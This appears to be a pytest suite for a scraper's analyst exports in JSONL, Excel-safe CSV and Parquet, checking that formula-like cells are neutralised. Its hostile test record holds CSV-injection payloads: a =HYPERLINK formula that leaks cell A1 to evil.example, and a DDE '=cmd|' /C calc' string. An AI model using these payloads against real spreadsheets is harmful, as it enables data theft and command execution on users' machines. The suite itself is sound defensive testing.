"""Analyst exports: JSONL, Excel-safe CSV and typed Parquet of real extracted records.

The records come from running the core on real pages (the seed page and dev-farm pages of
``tests/fixtures/farm``, read through ``farmpages``: a two-page gb2312 article with a
date-only publish time, and one article published on two sites), plus one hostile record
derived from them: a ``=HYPERLINK(...)`` title, a body with newlines, CR and quotes, and
formula-looking keywords. Files are written by the real exporters; one test runs a real
Scrapy crawl with the default FEEDS. :func:`article_records` and :func:`write_export` are
reused by ``test_load``.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from farmpages import farm_bytes
from hypothesis import given
from hypothesis import strategies as st
from scrapy.exporters import BaseItemExporter, JsonLinesItemExporter

from pipelines.exporters import (
    FEED_EXPORTERS,
    ParquetItemExporter,
    SafeCsvItemExporter,
    default_feeds,
)
from vendornews.export import (
    CSV_COLUMNS,
    EXCEL_CELL_LIMIT,
    FORMULA_STARTS,
    csv_cell,
    flat_row,
    parquet_row,
    parquet_schema,
    read_csv_cell,
)
from vendornews.extract import extract_article
from vendornews.loader import load
from vendornews.record import FIELD_DOCS, FetchedPage, Record

ROOT = Path(__file__).resolve().parents[1]
SEED = ROOT / "tests/fixtures/seed_page/page.html"
CRAWLED_AT = "2024-05-01T08:00:00+00:00"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
# page files of each article (first page first), as served under http://farm.test/
ARTICLES = {
    "http://farm.test/apsww/html/hangye/2797.htm": [
        "apsww/html/hangye/2797.htm",
        "apsww/html/hangye/2797_2.htm",
    ],
    "http://farm.test/bfzx/a/jishu/1749.html": ["bfzx/a/jishu/1749.html"],
    "http://farm.test/qzjxw/archives/2825/": ["qzjxw/archives/2825/index.html"],
}


def _extract(url: str, pages: list[tuple[str, bytes]]) -> dict[str, Any]:
    result = extract_article(
        [FetchedPage(url=page_url, body=body) for page_url, body in pages],
        crawled_at=CRAWLED_AT,
    )
    assert isinstance(result, Record), result
    return result.to_dict()


@functools.cache
def _extracted() -> str:
    records = [_extract("http://www.example.com/news/1.html",
                        [("http://www.example.com/news/1.html", SEED.read_bytes())])]
    for url, files in ARTICLES.items():
        pages = [(url if i == 0 else "http://farm.test/" + name, farm_bytes(name))
                 for i, name in enumerate(files)]
        records.append(_extract(url, pages))
    return json.dumps(records, ensure_ascii=False)


def article_records() -> list[dict[str, Any]]:
    """Fresh copies of the extracted records plus the hostile one (last)."""
    records: list[dict[str, Any]] = json.loads(_extracted())
    hostile = dict(records[0])
    hostile.update(
        url="http://www.example.com/news/2.html",
        title=HYPERLINK,
        body='-1+1 开头像公式\n第二段，含"引号"和,逗号\r\n第三段\n\n@第四段',
        keywords=["=cmd|' /C calc'!A0", "@SUM(1)", "+86", "普通"],
        author="@admin",
        source="\t制表符来源",
        editor="'单引号",
        content_hash="0" * 40,
    )
    return [*records, hostile]


def write_export(records: list[dict[str, Any]], path: Path, **exporter_kwargs: Any) -> Path:
    """``records`` written to ``path`` by the exporter and options that the crawl uses."""
    options = {Path(uri).suffix: opts for uri, opts in default_feeds(str(path.parent)).items()}
    opts = options[path.suffix]
    exporter_cls: Callable[..., BaseItemExporter] = {
        "jsonlines": JsonLinesItemExporter,
        "csv": SafeCsvItemExporter,
        "parquet": ParquetItemExporter,
    }[opts["format"]]
    with path.open("wb") as file:
        exporter = exporter_cls(
            file, fields_to_export=opts.get("fields"), encoding=opts.get("encoding"),
            **exporter_kwargs,
        )
        exporter.start_exporting()
        for record in records:
            exporter.export_item(record)
        exporter.finish_exporting()
    return path


# --- the pure cell rules -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),
        ("普通标题 =1", "普通标题 =1"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (["扶贫", "党建"], "扶贫; 党建"),
        (["-减税", "降费"], "'-减税; 降费"),
        ([], ""),
    ],
)
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


@given(st.text(max_size=50))
def test_read_csv_cell_undoes_the_escape(text: str) -> None:
    cell = csv_cell(text)
    assert read_csv_cell(cell) == text
    assert not cell.startswith(FORMULA_STARTS)


def test_cells_fit_in_excel() -> None:
    body = "新" * 40_000
    cell = csv_cell(body)
    assert len(cell) == EXCEL_CELL_LIMIT and cell.endswith("…")
    # astral characters count twice in Excel (UTF-16)
    wide = csv_cell("😀" * 20_000)
    assert len(wide.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT


def test_flat_row_has_the_csv_columns_only() -> None:
    record = article_records()[-1]
    row = flat_row(record)
    assert tuple(row) == CSV_COLUMNS
    assert "removed" not in row and "dup_group" in row
    assert row["title"] == "'" + HYPERLINK
    assert row["keywords"] == "'=cmd|' /C calc'!A0; @SUM(1); +86; 普通"


# --- JSONL ---------------------------------------------------------------------------------


def test_jsonl_is_utf8_one_record_per_line_every_field(tmp_path: Path) -> None:
    records = article_records()
    path = write_export(records, tmp_path / "news.jsonl")
    text = path.read_bytes().decode("utf-8")
    assert "\\u" not in text and "扶贫" in text
    lines = text.splitlines()
    assert len(lines) == len(records)
    assert [json.loads(line) for line in lines] == records


# --- CSV -----------------------------------------------------------------------------------


def test_csv_has_bom_safe_cells_and_the_same_rows_in_pandas_and_excel(tmp_path: Path) -> None:
    records = article_records()
    path = write_export(records, tmp_path / "news.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")

    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, cells = rows[0], rows[1:]
    assert tuple(header) == CSV_COLUMNS
    assert cells == [list(flat_row(record).values()) for record in records]

    frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert frame.values.tolist() == cells

    # The same cells in a real workbook, as a spreadsheet opening the CSV would hold them.
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    saved = tmp_path / "news.xlsx"
    workbook.save(saved)
    reread = openpyxl.load_workbook(saved).active
    assert reread is not None
    values = [[cell.value or "" for cell in row] for row in reread.iter_rows()]
    assert values == rows
    assert all(cell.data_type != "f" for row in reread.iter_rows() for cell in row)
    hostile = values[-1]
    assert hostile[header.index("title")] == "'" + HYPERLINK
    assert hostile[header.index("body")].startswith("'-1+1")
    assert "\n第二段" in hostile[header.index("body")]
    assert hostile[header.index("author")] == "'@admin"
    assert pd.read_excel(saved, dtype=str, keep_default_na=False).values.tolist() == cells

    # Control: unneutralized, the same title is a live formula in the workbook.
    sheet.append([records[-1]["title"]])
    assert sheet.cell(row=sheet.max_row, column=1).data_type == "f"


def test_csv_exporter_defaults_to_bom_and_csv_columns() -> None:
    buffer = io.BytesIO()
    exporter = SafeCsvItemExporter(buffer, encoding="utf-8")
    exporter.start_exporting()
    exporter.export_item(article_records()[1])
    exporter.finish_exporting()
    text = buffer.getvalue().decode("utf-8")
    assert text.startswith("\ufeff")
    assert text[1:].splitlines()[0] == ",".join(CSV_COLUMNS)


# --- Parquet -------------------------------------------------------------------------------


def test_parquet_types_and_values(tmp_path: Path) -> None:
    records = article_records()
    path = write_export(records, tmp_path / "news.parquet")
    table = pq.read_table(path)
    schema = table.schema
    assert schema.field("published").type == pa.timestamp("us")
    assert schema.field("published_is_date_only").type == pa.bool_()
    assert schema.field("crawled_at").type == pa.timestamp("us", tz="UTC")
    assert schema.field("keywords").type == pa.list_(pa.string())
    assert schema.field("removed").type == pa.list_(
        pa.struct([("rule", pa.string()), ("text", pa.string())])
    )
    assert schema.field("pages").type == pa.int64()
    assert schema.field("title").metadata == {b"doc": FIELD_DOCS["title"].encode()}
    rows = {row["url"]: row for row in table.to_pylist()}
    assert len(rows) == len(records)
    two_pages = rows["http://farm.test/apsww/html/hangye/2797.htm"]
    assert two_pages["pages"] == 2
    assert str(two_pages["published"]) == "2022-03-02 00:00:00"
    assert two_pages["published_is_date_only"] is True
    minutes = rows["http://farm.test/bfzx/a/jishu/1749.html"]
    assert str(minutes["published"]) == "2024-02-17 12:55:00"
    assert minutes["published_is_date_only"] is False
    for record in records:
        row = rows[record["url"]]
        assert row["keywords"] == record["keywords"]
        assert row["removed"] == record["removed"]
        assert row["body"] == record["body"] and row["title"] == record["title"]
        assert row["crawled_at"].isoformat() == CRAWLED_AT


def test_parquet_rows_are_written_in_row_groups(tmp_path: Path) -> None:
    records = article_records()
    path = write_export(records, tmp_path / "news.parquet", row_group_size=2)
    assert pq.ParquetFile(path).metadata.num_row_groups == (len(records) + 1) // 2
    assert pq.read_table(path).num_rows == len(records)


def test_parquet_without_items_is_a_valid_file(tmp_path: Path) -> None:
    path = write_export([], tmp_path / "news.parquet")
    table = pq.read_table(path)
    assert table.num_rows == 0 and table.schema.equals(parquet_schema())


def test_parquet_refuses_to_append(tmp_path: Path) -> None:
    path = write_export(article_records()[:1], tmp_path / "news.parquet")
    with path.open("ab") as file:
        exporter = ParquetItemExporter(file)
        with pytest.raises(ValueError, match="append"):
            exporter.start_exporting()


def test_parquet_row_of_an_unparseable_date_is_null() -> None:
    row = parquet_row({"url": "u", "published": "昨天", "crawled_at": CRAWLED_AT})
    assert row["published"] is None and row["published_is_date_only"] is False


# --- FEEDS and a real crawl ----------------------------------------------------------------


def test_default_feeds_write_three_formats_per_run() -> None:
    feeds = default_feeds("output")
    assert sorted(feeds) == [
        "output/news-%(time)s.csv", "output/news-%(time)s.jsonl", "output/news-%(time)s.parquet"
    ]
    assert {opts["format"] for opts in feeds.values()} == {"jsonlines", "csv", "parquet"}
    assert set(FEED_EXPORTERS) == {"csv", "parquet", "jsonlines", "jsonl", "json"}
    assert next(iter(default_feeds())).startswith("%(output_dir)s/")


SPIDER = textwrap.dedent(
    """
    import json
    import scrapy
    from pipelines.exporters import FEED_EXPORTERS, default_feeds

    class Replay(scrapy.Spider):
        # Yields already extracted records: the feeds and the dedup stage see real items.
        name = "replay"
        custom_settings = {
            "FEEDS": default_feeds(),
            "FEED_EXPORTERS": FEED_EXPORTERS,
            "FEED_EXPORT_ENCODING": "utf-8",
            "ITEM_PIPELINES": {"pipelines.dedup.DedupPipeline": 400},
            "LOG_LEVEL": "WARNING",
        }

        def __init__(self, records, output_dir, **kwargs):
            super().__init__(**kwargs)
            self.records_file = records
            self.output_dir = output_dir

        async def start(self):
            with open(self.records_file, encoding="utf-8") as handle:
                for record in json.load(handle):
                    yield record
    """
)


def test_crawl_writes_jsonl_csv_and_parquet_of_one_run(tmp_path: Path) -> None:
    records = article_records()
    (tmp_path / "records.json").write_text(json.dumps(records, ensure_ascii=False), "utf-8")
    (tmp_path / "replay.py").write_text(SPIDER, "utf-8")
    out = tmp_path / "out"
    state = tmp_path / "state.sqlite"
    done = subprocess.run(
        [sys.executable, "-m", "scrapy", "runspider", str(tmp_path / "replay.py"),
         "-a", f"records={tmp_path / 'records.json'}", "-a", f"output_dir={out}",
         "-s", f"VENDORNEWS_STATE={state}"],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )
    assert done.returncode == 0, done.stderr
    files = sorted(out.iterdir())
    assert [f.suffix for f in files] == [".csv", ".jsonl", ".parquet"]
    assert len({f.stem for f in files}) == 1, files

    jsonl = files[1].read_bytes().decode("utf-8")
    assert "\\u" not in jsonl
    written = [json.loads(line) for line in jsonl.splitlines()]
    assert [{k: v for k, v in r.items() if k != "dup_group"} for r in written] == records
    groups = {r["url"]: r["dup_group"] for r in written}
    # the same article on two sites: one group, named after its first member
    same = groups["http://farm.test/bfzx/a/jishu/1749.html"]
    assert groups["http://farm.test/qzjxw/archives/2825/"] == same == written[2]["content_hash"]
    assert len(set(groups.values())) == len(records) - 1

    assert files[0].read_bytes().startswith(b"\xef\xbb\xbf")
    csv_rows = list(csv.DictReader(files[0].open(encoding="utf-8-sig", newline="")))
    assert csv_rows[-1]["title"] == "'" + HYPERLINK  # the "csv" format is the safe exporter
    assert [row["dup_group"] for row in csv_rows] == list(groups.values())
    assert pq.read_table(files[2]).num_rows == len(records)
    frame = load(out)
    assert len(frame) == len(records)
    assert frame.set_index("url")["dup_group"].to_dict() == groups
    assert state.exists()
